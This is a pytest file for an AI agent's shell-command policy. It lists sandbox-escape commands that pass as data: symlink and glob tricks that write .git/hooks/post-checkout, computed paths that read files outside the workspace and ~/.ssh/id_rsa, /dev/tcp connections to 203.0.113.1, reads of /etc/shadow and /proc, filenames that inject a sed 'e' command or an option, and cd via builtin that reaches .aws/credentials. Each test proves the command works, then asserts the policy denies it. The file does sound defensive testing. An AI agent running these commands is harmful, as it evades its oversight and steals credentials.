"""Issue 10, class 8: paths the policy resolves differently from the kernel are undecidable.

A link made and used in the same command (`ln -s .git/hooks h && … > h/post-checkout`), a
computed path for any program (`cat $HOME/.ssh/id_rsa`, `cat "$(pwd)/../x"`), `cd -`, `find`
options that follow links or read start points from a file, and globs are where the policy
and the kernel used to part ways. Each example is run for real first (bubblewrap, real
programs, a throwaway workspace next to an ``/tmp/outside`` directory) to show it reaches a
protected path or a file outside the workspace; then the policy must deny it. Device paths
are streams: never removed or changed.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from enforcement_agent.models import ToolRequest, Verdict
from enforcement_agent.policy import Policy
from tests.policy.bash_oracle import available, build_workspace, run_for_real

pytestmark = pytest.mark.skipif(not available(), reason="bubblewrap and bash are required")

OUTSIDE = {"s": "OUTSIDE-SECRET-42\n"}
MARK = b"OUTSIDE-SECRET-42"
FILES: dict[str, str | bytes] = {"src/app.py": "x\n", "notes.md": "id\n", "sub/a.txt": "a\n"}
GIT = "git init -q"

# Writes that land in .git/hooks through a link the same command makes (or moves).
LINK_WRITES = [
    ("ln -s .git/hooks h && echo id > h/post-checkout", GIT),
    ("ln -s .git/hooks h; echo id > h/post-checkout", GIT),
    ("ln -sf .git h && echo id > h/hooks/post-checkout", GIT),
    ("mkdir d && ln -s ../.git d/g && echo id > d/g/hooks/post-checkout", GIT),
    ("ln -s . loop && echo id > loop/.git/hooks/post-checkout", GIT),
    (
        "cp -s $PWD/.git/hooks/post-checkout p && echo id >> p",
        GIT + " && touch .git/hooks/post-checkout",
    ),
    ("mv lh h2 && echo id > h2/post-checkout", GIT + " && ln -s .git/hooks lh"),
    ("tar xf links.tar && echo id > h/post-checkout", GIT),
    ("(sleep 0.3; echo id > h/post-checkout) & ln -s .git/hooks h; wait", GIT),
    ("bash -c 'ln -s .git/hooks h' && echo id > h/post-checkout", GIT),
    ("ln -s .git/hooks h && cd h && echo id > post-checkout", GIT),
    ("ln -s .git/hooks h && cp notes.md h/post-checkout", GIT),
    ("ln -s .git/hooks h && tee h/post-checkout < notes.md", GIT),
]
# Reads that reach /tmp/outside/s (the workspace is /tmp/ws, HOME is /tmp/home).
OUTSIDE_READS = [
    ("cat $HOME/../outside/s", ""),
    ('cat "$(pwd)/../outside/s"', ""),
    ('head "$PWD/../outside/s"', ""),
    ("cat ${OLDPWD:-..}/outside/s", ""),
    ("x=../outside/s; cat $x", ""),
    ("f=s; cat ../outside/$f", ""),
    ("wc -c $(echo ../outside/s) && cat ../outside/s", ""),
    ("grep . $(dirname $PWD)/outside/s", ""),
    ("cd sub && cd - && cat $OLDPWD/../../outside/s", ""),
    ("cd /tmp/outside; cd -; cat $OLDPWD/s", ""),
    ("echo ../outside/s | xargs cat", ""),
    ("printf '%s\\n' ../outside/s | xargs cat", ""),
    ("find -L . -name s -exec cat {} \\;", "ln -s /tmp/outside out"),
    ("find . -follow -name s -exec cat {} \\;", "ln -s /tmp/outside out"),
    ("find -H out/ -name s -exec cat {} \\;", "ln -s /tmp/outside out"),
    ("find -files0-from list -exec cat {} \\;", "printf '/tmp/outside/s\\0' > list"),
    ("cat o*/s", "ln -s /tmp/outside out"),
    ("cat */s", "ln -s /tmp/outside out"),
    ("ls | xargs -I{} cat {}/s", "ln -s /tmp/outside out"),
    ("ln -s /tmp/outside o && cat o/s", ""),
    ("cat ~/../outside/s", ""),
]


def _decide(policy: Policy, ws: Path, command: str, role: str = "contributor") -> Verdict:
    req = ToolRequest(tenant="acme", actor="a", role=role, tool="exec", command=command)
    return policy.decide(req, ws).decision


def _links_tar() -> bytes:
    import io
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        info = tarfile.TarInfo("h")
        info.type = tarfile.SYMTYPE
        info.linkname = ".git/hooks"
        tf.addfile(info)
    return buf.getvalue()


def _files() -> dict[str, str | bytes]:
    return {**FILES, "links.tar": _links_tar()}


def test_there_are_enough_cases() -> None:
    assert len(LINK_WRITES) + len(OUTSIDE_READS) >= 21


@pytest.mark.parametrize(("command", "setup"), LINK_WRITES)
def test_link_tricks_really_write_a_hook(command: str, setup: str) -> None:
    effect = run_for_real(command, files=_files(), setup=setup)
    hook = effect.files.get(".git/hooks/post-checkout", b"")
    assert b"id" in hook, (command, effect.stderr[-300:])


@pytest.mark.parametrize(("command", "setup"), LINK_WRITES)
def test_link_tricks_are_denied(
    default_policy: Policy, tmp_path: Path, command: str, setup: str
) -> None:
    ws = build_workspace(tmp_path, _files(), setup)
    for role in ("contributor", "admin"):
        assert _decide(default_policy, ws, command, role) is Verdict.DENY, (command, role)


@pytest.mark.parametrize(("command", "setup"), OUTSIDE_READS)
def test_computed_and_followed_paths_really_read_outside(command: str, setup: str) -> None:
    effect = run_for_real(command, files=_files(), setup=setup, outside=OUTSIDE)
    assert MARK in effect.stdout, (command, effect.stdout[:200], effect.stderr[-300:])


@pytest.mark.parametrize(("command", "setup"), OUTSIDE_READS)
def test_computed_and_followed_paths_are_denied(
    default_policy: Policy, tmp_path: Path, command: str, setup: str
) -> None:
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "s").write_text(OUTSIDE["s"])
    ws = build_workspace(
        tmp_path, _files(), setup.replace("/tmp/outside", str(tmp_path / "outside"))
    )
    for role in ("viewer", "contributor", "admin"):
        assert _decide(default_policy, ws, command, role) is not Verdict.ALLOW, (command, role)


DEVICE_CHANGES = [
    "rm -f /dev/null",
    "rm /dev/stdout",
    "mv notes.md /dev/null",
    "chmod 666 /dev/null",
    "chown nobody /dev/tty",
    "ln -sf notes.md /dev/stdout",
    "touch /dev/null",
    "truncate -s 0 /dev/null",
    "cp notes.md /dev/sda",
    "dd if=notes.md of=/dev/sda",
    "echo x > /dev/tcp/203.0.113.1/80",
    "cat < /dev/tcp/203.0.113.1/80",
    "cat /proc/self/environ",
    "cat /proc/self/root/etc/shadow",
    "echo x > /proc/sys/kernel/panic",
    "find /dev -delete",
    "shred /dev/null",
]
DEVICE_STREAMS = [
    "echo x > /dev/null",
    "make 2> /dev/null",
    "cat /dev/null > notes.md",
    "tee /dev/null < notes.md",
    "ls > /dev/stdout",
    "head -c 8 /dev/urandom | od -An -tx1",
]


@pytest.mark.parametrize(
    ("command", "want"),
    [(c, Verdict.DENY) for c in DEVICE_CHANGES] + [(c, Verdict.ALLOW) for c in DEVICE_STREAMS],
)
def test_devices_are_streams_never_files_to_change(
    default_policy: Policy, tmp_path: Path, command: str, want: Verdict
) -> None:
    """Device paths are not exempt from the write and delete rules; streaming stays usable."""
    ws = build_workspace(tmp_path, FILES)
    for role in ("contributor", "admin"):
        assert _decide(default_policy, ws, command, role) is want, (command, role)


@pytest.mark.parametrize(
    "command",
    [
        "ln -s src/app.py app.py",
        "cd sub && ls && cd .. && cat notes.md",
        "find . -name '*.py' | xargs wc -l",
        "cat src/*.py",
        "ls sub/*",
        "git checkout -b topic",
        "ln -s app.py src/main_link.py && git status",
    ],
)
def test_decidable_paths_stay_allowed(default_policy: Policy, tmp_path: Path, command: str) -> None:
    ws = build_workspace(tmp_path, FILES, GIT)
    assert _decide(default_policy, ws, command) is Verdict.ALLOW, command


# Names a producer prints, fed to a command by xargs or a `for` list: they reach it as the
# same words only when they are plain. Each setup plants names (as anyone who writes the
# workspace can) that split into a path outside, turn into an option, expand as a glob, or
# lead out through a link in a directory the old check skipped (node_modules).
_SPLIT = "mkdir -p 'a /tmp/outside' && cp /tmp/outside/s 'a /tmp/outside/s'"
_OPTION = "printf '/tmp/outside/s\\0' > list && touch -- --files0-from=list"
_GLOB = "printf 'ENV-SECRET-42\\n' > .env && touch '.e*'"
_VENDOR_LINK = "mkdir -p node_modules/x && ln -s /tmp/outside/s node_modules/x/index.py"
_TRACK = " && git add -A -f"
NAME_TRICKS = [
    ("find . -type f | xargs cat", _SPLIT, MARK),
    ("find . -type f -print | xargs -n 1 cat", _SPLIT, MARK),
    ("for f in $(find . -type f); do cat $f; done", _SPLIT, MARK),
    ('for f in $(find . -type f); do cat "$f"; done', _SPLIT, MARK),
    ("git ls-files | xargs cat", GIT + " && " + _SPLIT + _TRACK, MARK),
    ('for f in $(git ls-files); do cat "$f"; done', GIT + " && " + _SPLIT + _TRACK, MARK),
    ("git ls-files | xargs -n 1 sort", GIT + " && " + _OPTION + _TRACK, MARK),
    ("ls | xargs -n 1 sort", _OPTION, MARK),
    ("for f in $(git ls-files); do cat $f; done", GIT + " && " + _GLOB + " && git add '.e*'",
     b"ENV-SECRET-42"),
    ("for f in $(ls -A); do cat $f; done", _GLOB, b"ENV-SECRET-42"),
    ("find . -name '*.py' | xargs cat", _VENDOR_LINK, MARK),
    ("for f in $(find . -name '*.py'); do cat $f; done", _VENDOR_LINK, MARK),
    # names from a file, or split where the producer did not split them
    ("find . | xargs -a names.txt cat", "printf '/tmp/outside/s' > names.txt", MARK),
    ("find . -name s -print0 | xargs -0 -d , cat", "mkdir -p 'x,/tmp/outside' && touch 'x,/tmp/outside/s'", MARK),
    # names printed as any text (a format, a prefix, a label)
    ("find . -maxdepth 0 -printf '/tmp/outside/s' | xargs cat", "", MARK),
    ("git ls-files --format=/tmp/outside/s | xargs cat", GIT + _TRACK, MARK),
    ("git diff --name-only --line-prefix=/tmp/outside/ | xargs cat",
     GIT + " && touch s && git add s && git commit -qm s && echo x > s", MARK),
    ("grep -l . --label=/tmp/outside/s - < notes.md | xargs cat", "", MARK),
]  # fmt: skip


@pytest.mark.parametrize(("command", "setup", "mark"), NAME_TRICKS)
def test_names_that_are_not_plain_really_reach_something_else(
    command: str, setup: str, mark: bytes
) -> None:
    effect = run_for_real(command, files=_files(), setup=setup, outside=OUTSIDE)
    assert mark in effect.stdout, (command, effect.stdout[:200], effect.stderr[-300:])


@pytest.mark.parametrize(("command", "setup", "mark"), NAME_TRICKS)
def test_names_that_are_not_plain_are_not_allowed(
    default_policy: Policy, tmp_path: Path, command: str, setup: str, mark: bytes
) -> None:
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "s").write_text(OUTSIDE["s"])
    ws = build_workspace(
        tmp_path, _files(), setup.replace("/tmp/outside", str(tmp_path / "outside"))
    )
    for role in ("contributor", "admin"):
        assert _decide(default_policy, ws, command, role) is not Verdict.ALLOW, (command, role)


@pytest.mark.parametrize(
    "command",
    [
        "find . -name '*.py' | xargs wc -l",
        "find . -type f -print0 | xargs -0 wc -c",
        "git ls-files | xargs wc -l",
        "git ls-files '*.py' | xargs -n 10 wc -l",
        'for f in $(git ls-files); do wc -l "$f"; done',
        "for f in $(git ls-files); do wc -l $f; done",
        'for f in $(find src -name "*.py"); do head -1 "$f"; done',
        "for f in $(rg --files src); do wc -c $f; done",
        "cd sub && git ls-files | xargs cat",
        "cd sub && git diff --name-only | xargs wc -l",
        "echo done > log.txt; git ls-files | xargs wc -l",
        "cd sub && git status && ls | xargs wc -l",
        "ls | xargs wc -l; echo ok > result.txt",
    ],
)
def test_plain_names_from_a_known_printer_are_decided(
    default_policy: Policy, tmp_path: Path, command: str
) -> None:
    ws = build_workspace(
        tmp_path, {**FILES, ".venv/bin/python": "x"}, GIT + " && git add src notes.md sub"
    )
    assert _decide(default_policy, ws, command) is Verdict.ALLOW, command


@pytest.mark.parametrize(
    "command",
    [
        # the names are read relative to another directory than the producer's
        "for f in $(git ls-files); do cd sub; cat $f; done",
        "for f in $(git ls-files); do pushd sub; cat $f; popd; done",
        # IFS decides where the list splits
        "IFS=/; for f in $(git ls-files); do cat $f; done",
        # not the whole word: the name is part of a longer path
        "for f in $(git ls-files); do cat ../$f; done",
        "git ls-files | xargs -I{} cat ../{}",
        # not a known name printer
        "for f in $(cat notes.md); do cat $f; done",
        "for f in $(git status --short); do cat $f; done",
        "git status | xargs cat",
        "for f in $(git ls-files) extra; do cat $f; done",
        # a build runs workspace code, which may add files before the names are printed
        "cd sub && make; git ls-files | xargs wc -l",
    ],
)
def test_names_from_elsewhere_stay_undecidable(
    default_policy: Policy, tmp_path: Path, command: str
) -> None:
    ws = build_workspace(tmp_path, FILES, GIT + " && git add -A")
    assert _decide(default_policy, ws, command) is not Verdict.ALLOW, command


# Names a producer prints are checked on disk as they are now; a file the same line creates,
# renames or extracts first (or at the same time, or before a loop runs the consumer again)
# is not among them: `-e…` turns into a sed script that runs a program, `--help`/`--version`
# into an option. Each command is run for real first (the mark: a file a sed script made, or
# the option's output), then denied.
_SED_RUN = "'-es,.*,touch${IFS}pwned,e'"
_HELP_TAR = "mkdir t && cp notes.md t/--help && tar cf names.tar -C t ./--help && rm -r t"
NAME_RACES = [
    (f"touch -- {_SED_RUN}; ls | xargs sed -n p", "", "file:pwned"),
    (f"echo > ./{_SED_RUN} && ls | xargs sed -n p", "", "file:pwned"),
    (f"touch -- {_SED_RUN} & sleep 0.3; ls | xargs -n 9 sed -n p", "", "file:pwned"),
    (f"(touch -- {_SED_RUN}) && git add -A && git ls-files | xargs sed -n p", GIT, "file:pwned"),
    ("cp notes.md ./--help; ls | xargs cat", "", b"Usage: cat"),
    ("{ mv notes.md ./--help; } || true; ls | xargs wc -l", "", b"Usage: wc"),
    ("tar xf names.tar; ls | xargs cat", _HELP_TAR, b"Usage: cat"),
    ("sh -c 'cp notes.md ./--help' && for f in $(ls); do cat $f; done", "", b"Usage: cat"),
    ("for i in 1 2; do ls | xargs cat; cp notes.md ./--help; done", "", b"Usage: cat"),
    ("false || cp notes.md ./--version; ls -A | xargs -n 1 cat", "", b"GNU coreutils"),
    ("cp notes.md ./--version && git add -- ./--version && git ls-files | xargs cat", GIT,
     b"GNU coreutils"),
    ("cat notes.md > ./--version; wait; ls | sort | xargs cat", "", b"GNU coreutils"),
]  # fmt: skip


@pytest.mark.parametrize(("command", "setup", "mark"), NAME_RACES)
def test_names_made_in_the_same_line_really_turn_into_options(
    command: str, setup: str, mark: str | bytes
) -> None:
    effect = run_for_real(command, files=_files(), setup=setup)
    if isinstance(mark, str):
        assert mark[5:] in effect.files, (command, effect.stderr[-300:])
    else:
        assert mark in effect.stdout, (command, effect.stdout[:200], effect.stderr[-300:])


@pytest.mark.parametrize(("command", "setup", "mark"), NAME_RACES)
def test_names_made_in_the_same_line_are_not_allowed(
    default_policy: Policy, tmp_path: Path, command: str, setup: str, mark: str | bytes
) -> None:
    ws = build_workspace(tmp_path, _files(), setup)
    for role in ("contributor", "admin"):
        assert _decide(default_policy, ws, command, role) is not Verdict.ALLOW, (command, role)


_VARS = ["$HOME", "$PWD", "$OLDPWD", "${HOME}", "$(pwd)", "`pwd`", "$x", "${x:-.}", "~+", "~-"]
_READERS = ["cat", "head", "tail", "wc -l", "less", "grep -n x", "sort", "xxd", "stat", "file"]


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    var=st.sampled_from(_VARS),
    reader=st.sampled_from(_READERS),
    rest=st.sampled_from(["/.ssh/id_rsa", "/../x", "", "/notes.md", "/../../etc/passwd"]),
    quote=st.booleans(),
)
def test_a_computed_path_is_never_allowed_for_any_reader(
    decide: object, var: str, reader: str, rest: str, quote: bool
) -> None:
    path = var + rest
    command = f'{reader} "{path}"' if quote else f"{reader} {path}"
    d = decide(command)  # type: ignore[operator]
    assert d.decision is not Verdict.ALLOW, (command, d.rule)


EVERYDAY = Path(__file__).with_name("everyday_shell.txt")


def _everyday_commands() -> list[str]:
    import re

    cmds: list[str] = []
    current: list[str] = []
    end = ""
    for line in EVERYDAY.read_text().splitlines():
        if end:
            current.append(line)
            if line.strip() == end:
                cmds.append("\n".join(current))
                current, end = [], ""
            continue
        if not line.strip() or line.startswith("#"):
            continue
        m = re.search(r"<<-?\s*['\"]?(\w+)['\"]?", line)
        if m:
            current, end = [line], m.group(1)
            continue
        cmds.append(line)
    return cmds


def test_the_everyday_corpus_is_large_enough() -> None:
    assert len(_everyday_commands()) >= 100


@pytest.mark.parametrize("command", _everyday_commands())
def test_everyday_shell_idioms_stay_allowed(
    default_policy: Policy, everyday_ws: Path, command: str
) -> None:
    req = ToolRequest(tenant="acme", actor="a", role="contributor", tool="exec", command=command)
    d = default_policy.decide(req, everyday_ws)
    assert d.decision is Verdict.ALLOW, (command, d.rule, d.reason)


# A link the decider may not follow (`/proc/1/root` needs ptrace rights) is a clean deny with a
# rule, never an internal error: where it leads is unknown, so it counts as outside.
@pytest.mark.parametrize(
    "command",
    [
        "cat /proc/1/root/etc/shadow",
        "head -c 10 /proc/1/root/etc/passwd",
        "ls /proc/1/root/",
        "cp /proc/1/root/etc/hostname x",
        "echo x > /proc/1/root/tmp/x",
        "grep -r x /proc/1/root/etc",
        "tee /proc/1/cwd/x < notes.md",
        "cat /proc/1/cwd/.env",
        "wc -l /proc/1/root/etc/shadow /proc/1/root/etc/gshadow",
        "cat < /proc/1/root/etc/shadow",
        "diff /proc/1/root/etc/shadow notes.md",
    ],
)
def test_unreadable_proc_links_are_a_rule_deny(decide: object, command: str) -> None:
    d = decide(command)  # type: ignore[operator]
    assert d.decision is Verdict.DENY, command
    assert d.rule != "internal-error", (command, d.reason)


# ---- third red-team pass (2026-12-03) -----------------------------------------------------
# find -execdir runs its command from each found name's directory: a relative word there is
# not relative to where find runs. And the kernel opens inodes: a hard link of a secret, or a
# symlink a program follows, is the secret under a name no pattern matches.
EXECDIR_WRITES = [
    ("find .git -name hooks -execdir touch hooks/post-checkout \\;", GIT),
    ("find .git -maxdepth 1 -name hooks -execdir cp ../notes.md hooks/post-checkout \\;", GIT),
    ("find .git/hooks -maxdepth 0 -execdir sh -c 'echo id > hooks/post-checkout' \\;", GIT),
    ("find . -path ./.git/hooks -execdir tee hooks/post-checkout \\; < notes.md", GIT),
    ("yes | find .git -name hooks -okdir touch hooks/post-checkout \\;", GIT),
    ("find .git -name hooks -execdir ln -s ../../notes.md hooks/post-checkout \\;", GIT),
]
SECRET = {".env": "API_KEY=sk-ZQ9x7\n"}
ALIAS_READS = [
    ("cat docs/a.txt", "mkdir docs && ln .env docs/a.txt"),
    ("tac docs/a.txt | rev", "mkdir docs && ln .env docs/a.txt"),
    ("grep -r API docs", "mkdir docs && ln .env docs/a.txt"),
    ("grep -R API docs", "mkdir docs && ln -s ../.env docs/a.txt"),
    ("grep -R API --include='*.txt' docs", "mkdir docs && ln -s ../.env docs/a.txt"),
    ("find docs -name '*.txt' | xargs cat", "mkdir docs && ln -s ../.env docs/a.txt"),
    ("find docs -type f -exec cat {} +", "mkdir docs && ln .env docs/a.txt"),
    ("ls docs/* | xargs head", "mkdir docs && ln -s ../.env docs/a.txt"),
    ("diff -rN docs other", "mkdir docs other && ln -s ../.env docs/a.txt"),
    ("grep -R API docs", "mkdir -p docs && ln -s .. docs/up"),
]


# bash expands a glob in the directory word of cd, pushd, git -C, env -C
GLOB_CHDIR_WRITES = [
    ("cd .gi? && echo id > hooks/post-checkout", GIT),
    ("cd .g*t && echo id > hooks/post-checkout", GIT),
    ("cd .[g]it/hoo* && echo id > post-checkout", GIT),
    ("cd .git/h*; cp ../../notes.md post-checkout", GIT),
    ("pushd .gi? && echo id > hooks/post-checkout", GIT),
    ("env -C .g*t sh -c 'echo id > hooks/post-checkout'", GIT),
]
EXECDIR_WRITES += GLOB_CHDIR_WRITES


def test_third_pass_has_enough_cases() -> None:
    assert len(EXECDIR_WRITES) >= 10 and len(ALIAS_READS) >= 10


@pytest.mark.parametrize(("command", "setup"), EXECDIR_WRITES)
def test_execdir_really_writes_a_hook(command: str, setup: str) -> None:
    effect = run_for_real(command, files=FILES, setup=setup)
    assert ".git/hooks/post-checkout" in effect.files or ".git/hooks/post-checkout" in (
        effect.links
    ), (command, effect.stderr[-300:])


@pytest.mark.parametrize(("command", "setup"), EXECDIR_WRITES)
def test_execdir_writes_are_denied(
    default_policy: Policy, tmp_path: Path, command: str, setup: str
) -> None:
    ws = build_workspace(tmp_path, FILES, setup)
    for role in ("contributor", "admin"):
        assert _decide(default_policy, ws, command, role) is Verdict.DENY, (command, role)


@pytest.mark.parametrize(("command", "setup"), ALIAS_READS)
def test_other_names_of_a_secret_really_print_it(command: str, setup: str) -> None:
    effect = run_for_real(command, files={**FILES, **SECRET}, setup=setup)
    out = effect.stdout.decode()
    assert "sk-ZQ9x7" in out or "sk-ZQ9x7"[::-1] in out, (command, out[:200], effect.stderr[-200:])


@pytest.mark.parametrize(("command", "setup"), ALIAS_READS)
def test_other_names_of_a_secret_are_denied(
    default_policy: Policy, tmp_path: Path, command: str, setup: str
) -> None:
    ws = build_workspace(tmp_path, {**FILES, **SECRET}, setup)
    for role in ("viewer", "contributor", "admin"):
        assert _decide(default_policy, ws, command, role) is not Verdict.ALLOW, (command, role)


@pytest.mark.parametrize(
    ("command", "setup"),
    [
        ("find . -name '*.pyc' -execdir rm {} +", ""),
        ("find src -name '*.py' -execdir wc -l {} +", ""),
        ("cd s* && cat app.py", ""),
        ("cat src/app2.py", "ln src/app.py src/app2.py"),
        ("grep -R x src", "ln -s app.py src/link.py"),
        ("find . -name '*.md' | xargs cat", "ln notes.md notes2.md"),
    ],
)
def test_third_pass_decidable_shapes_stay_allowed(
    default_policy: Policy, tmp_path: Path, command: str, setup: str
) -> None:
    ws = build_workspace(tmp_path, {**FILES, **SECRET}, setup)
    assert _decide(default_policy, ws, command) is Verdict.ALLOW, command


@pytest.mark.parametrize(
    "command",
    [
        "docker compose run app",
        "docker compose up -d",
        "podman compose up",
        "docker-compose up -d",
        "docker-compose run --rm app sh",
        "podman-compose run app",
    ],
)
def test_compose_binds_what_a_workspace_file_names(
    default_policy: Policy, tmp_path: Path, command: str
) -> None:
    """A compose file the agent writes may bind `..` or `/` (`volumes: ["..:/h"]`): compose is
    `docker run` with its arguments in a file, denied for every role like `docker run`."""
    compose = "services:\n  app:\n    image: alpine\n    volumes: ['..:/h']\n"
    ws = build_workspace(tmp_path, {**FILES, "compose.yaml": compose})
    for role in ("contributor", "maintainer", "admin"):
        assert _decide(default_policy, ws, command, role) is Verdict.DENY, (command, role)


# ---- fifth pass (2026-12-03): cd run by `command`, `builtin` and `time` ----------------------
# `command cd DIR` and `builtin cd DIR` run the shell's own cd (the wrapper only skips
# functions and aliases), and `time` is a keyword that runs its pipeline in this shell: the
# directory changes for every later command. The decision took them for wrapped programs
# (`env cd` cannot move the shell), so `command cd .git && echo x > hooks/post-checkout` was
# checked as a write of `hooks/post-checkout` at the top and allowed. Each is run in real bash
# first (it writes the hook), then must be denied; later paths are now checked from both
# directories (`time` may also be /usr/bin/time, which moves nothing).
FIFTH_PASS_CD = [
    "command cd .git && echo id > hooks/post-checkout",
    "builtin cd .git && echo id > hooks/post-checkout",
    "command -p cd .git && echo id > hooks/post-checkout",
    "command -- cd .git/hooks && echo id > post-checkout",
    "command builtin cd .git && echo id > hooks/post-checkout",
    "builtin command cd .git && echo id > hooks/post-checkout",
    "command pushd .git && echo id > hooks/post-checkout",
    "builtin pushd .git/hooks; echo id > post-checkout",
    "time cd .git && echo id > hooks/post-checkout",
    "time -p cd .git; echo id > hooks/post-checkout",
    "command cd .git && cp ../notes.md hooks/post-checkout",
    "builtin cd -P .git && tee hooks/post-checkout < ../notes.md",
]
# Secret files read under a name the secret list does not match from the top
# (`credentials` is `.aws/credentials` once the shell is in `.aws`).
_SECRET_DIRS: dict[str, str | bytes] = {
    ".aws/credentials": "aws_secret_access_key=CANARY-AWS-5\n",
    ".kube/config": "token: CANARY-KUBE-5\n",
    ".docker/config.json": '{"auth": "CANARY-DOCKER-5"}\n',
    ".config/gcloud/adc.json": '{"k": "CANARY-GCLOUD-5"}\n',
}
FIFTH_PASS_CD_READS = [
    ("command cd .aws && cat credentials", b"CANARY-AWS-5"),
    ("builtin cd .kube; cat config", b"CANARY-KUBE-5"),
    ("time cd .docker && cat config.json", b"CANARY-DOCKER-5"),
    ("command pushd .config/gcloud >/dev/null && cat adc.json", b"CANARY-GCLOUD-5"),
    ("command -p cd .aws && rev credentials | rev", b"CANARY-AWS-5"),
    ("builtin pushd .aws >/dev/null; sort credentials", b"CANARY-AWS-5"),
]
FIFTH_PASS_CD_FINE = [
    "command cd src && ls",
    "builtin cd sub && cat a.txt",
    "time cd src && cat app.py",
    "command -v cd && ls",
    "env cd .git; echo id > notes.md",
]


def test_fifth_pass_has_enough_cd_cases() -> None:
    assert len(FIFTH_PASS_CD) + len(FIFTH_PASS_CD_READS) >= 15


@pytest.mark.parametrize("command", FIFTH_PASS_CD)
def test_fifth_pass_cd_in_this_shell_really_writes_a_hook(command: str) -> None:
    effect = run_for_real(command, files=_files(), setup=GIT)
    hook = effect.files.get(".git/hooks/post-checkout", b"")
    assert b"id" in hook, (command, effect.stderr[-300:])


@pytest.mark.parametrize("command", FIFTH_PASS_CD)
def test_fifth_pass_cd_in_this_shell_is_followed(
    default_policy: Policy, tmp_path: Path, command: str
) -> None:
    ws = build_workspace(tmp_path, _files(), GIT)
    for role in ("contributor", "admin"):
        assert _decide(default_policy, ws, command, role) is Verdict.DENY, (command, role)


@pytest.mark.parametrize(("command", "mark"), FIFTH_PASS_CD_READS)
def test_fifth_pass_cd_in_this_shell_really_reads_a_secret(command: str, mark: bytes) -> None:
    effect = run_for_real(command, files={**_files(), **_SECRET_DIRS})
    assert mark in effect.stdout, (command, effect.stdout[:200], effect.stderr[-300:])


@pytest.mark.parametrize(("command", "mark"), FIFTH_PASS_CD_READS)
def test_fifth_pass_cd_in_this_shell_secret_reads_are_denied(
    default_policy: Policy, tmp_path: Path, command: str, mark: bytes
) -> None:
    ws = build_workspace(tmp_path, {**_files(), **_SECRET_DIRS})
    for role in ("viewer", "contributor", "admin"):
        assert _decide(default_policy, ws, command, role) is not Verdict.ALLOW, (command, role)


@pytest.mark.parametrize("command", FIFTH_PASS_CD_FINE)
def test_fifth_pass_cd_in_this_shell_everyday_stays_allowed(
    default_policy: Policy, tmp_path: Path, command: str
) -> None:
    ws = build_workspace(tmp_path, _files(), GIT)
    assert _decide(default_policy, ws, command) is Verdict.ALLOW, command
